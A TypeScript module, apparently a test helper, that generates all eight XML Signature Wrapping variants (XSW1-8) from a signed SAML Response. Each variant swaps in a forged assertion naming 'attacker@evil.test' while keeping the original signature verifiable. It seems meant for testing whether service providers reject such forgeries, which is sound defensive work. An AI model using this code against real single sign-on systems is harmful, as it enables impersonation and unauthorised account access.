import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * XML Signature Wrapping permutations (Somorovsky et al., "On Breaking SAML", 2012; the XSW1-8
 * numbering of SAML Raider). Each takes a validly signed Response and returns one where a naive
 * SP would verify the original signed bytes but read an attacker's assertion.
 * XSW1/2 attack a Response signature; XSW3-8 an Assertion signature.
 */

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
export const ATTACKER_NAMEID = 'attacker@evil.test';

export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';
export const XSW_VARIANTS: readonly XswVariant[] = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'];

function children(el: Element, ns: string, local: string): Element[] {
  const out: Element[] = [];
  for (let n = el.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === local) out.push(n as Element);
  }
  return out;
}

function only(el: Element, ns: string, local: string): Element {
  const found = children(el, ns, local);
  if (found.length !== 1) throw new Error(`expected one <${local}> in <${el.nodeName}>, found ${found.length}`);
  return found[0]!;
}

function clone(el: Element): Element {
  return el.cloneNode(true) as Element;
}

function withoutSignature(el: Element): Element {
  const copy = clone(el);
  for (const sig of children(copy, DSIG, 'Signature')) copy.removeChild(sig);
  return copy;
}

/** The attacker's edit: become someone else. */
function evilize(assertion: Element): void {
  const subject = only(assertion, SAML, 'Subject');
  const nameId = only(subject, SAML, 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(nameId.ownerDocument.createTextNode(ATTACKER_NAMEID));
}

function insertAfter(node: Node, reference: Node): void {
  reference.parentNode!.insertBefore(node, reference.nextSibling);
}

export function wrapSignature(signedResponseXml: string, variant: XswVariant): string {
  const doc = new DOMParser().parseFromString(signedResponseXml, 'text/xml');
  const response = doc.documentElement;
  const assertion = only(response, SAML, 'Assertion');
  const responseId = response.getAttribute('ID')!;
  const assertionId = assertion.getAttribute('ID')!;

  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      // New root Response with the attacker's assertion; the original signed Response is hidden
      // inside the signature (XSW1) or just before it (XSW2) so that "#id" still finds it.
      const signature = only(response, DSIG, 'Signature');
      const original = withoutSignature(response);
      response.setAttribute('ID', `${responseId}-evil`);
      const evilAssertion = only(response, SAML, 'Assertion');
      for (const sig of children(evilAssertion, DSIG, 'Signature')) evilAssertion.removeChild(sig);
      evilize(evilAssertion);
      if (variant === 'XSW1') signature.appendChild(original);
      else response.insertBefore(original, signature);
      break;
    }
    case 'XSW3': {
      // Unsigned evil assertion placed before the signed one.
      const evil = withoutSignature(assertion);
      evil.setAttribute('ID', `${assertionId}-evil`);
      evilize(evil);
      response.insertBefore(evil, assertion);
      break;
    }
    case 'XSW4': {
      // Evil assertion takes the original's place and swallows it.
      const evil = withoutSignature(assertion);
      evil.setAttribute('ID', `${assertionId}-evil`);
      evilize(evil);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 'XSW5': {
      // The signed assertion is edited in place; an unedited copy (same ID, no signature) trails the message.
      const copy = withoutSignature(assertion);
      evilize(assertion);
      response.appendChild(copy);
      break;
    }
    case 'XSW6': {
      // Edited in place; the unedited copy hides inside the assertion's own signature.
      const copy = withoutSignature(assertion);
      evilize(assertion);
      only(assertion, DSIG, 'Signature').appendChild(copy);
      break;
    }
    case 'XSW7': {
      // The signed original goes into <Extensions>; an unsigned evil assertion takes its place.
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
      const evil = withoutSignature(assertion);
      evilize(evil);
      response.replaceChild(evil, assertion);
      extensions.appendChild(assertion);
      insertAfter(extensions, only(response, SAML, 'Issuer'));
      break;
    }
    case 'XSW8': {
      // Edited in place; the unedited copy sits in a <ds:Object> of the assertion's signature.
      const copy = withoutSignature(assertion);
      evilize(assertion);
      const object = doc.createElementNS(DSIG, 'ds:Object');
      object.appendChild(copy);
      only(assertion, DSIG, 'Signature').appendChild(object);
      break;
    }
  }
  return new XMLSerializer().serializeToString(doc);
}

/** Small DOM edits on a signed Response, for attacks that are not wrapping. */
export function editResponse(xml: string, edit: (response: Element, doc: Document) => void): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  edit(doc.documentElement, doc);
  return new XMLSerializer().serializeToString(doc);
}

export const ns = { SAMLP, SAML, DSIG };
export { only as onlyChild, children as childrenOf };
